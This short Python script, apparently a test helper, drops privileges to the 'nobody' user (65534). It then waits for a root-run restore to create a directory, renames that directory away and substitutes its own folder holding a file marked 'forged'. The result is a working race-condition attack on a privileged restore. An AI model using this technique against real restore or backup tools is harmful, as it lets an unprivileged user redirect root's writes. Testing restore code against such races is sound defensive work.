"""Be the user 65534 and put a folder of one's own in the place of the one into which root restores.

swap_inner.py TARGET: waits until the restore has written something, then says "swapped".
"""
import os
import sys
import time

target = sys.argv[1]
os.setgroups([])
os.setgid(65534)
os.setuid(65534)
os.write(1, b"waiting\n")
while not (names := os.listdir(target)):
    pass
name = f"{target}/{names[0]}"
# Root may still be making and entering it, and would notice.
time.sleep(0.1)
os.rename(name, f"{target}/away")
os.makedirs(f"{name}/files")
with open(f"{name}/files/good", "w") as file:
    file.write("forged")
os.write(1, b"swapped\n")
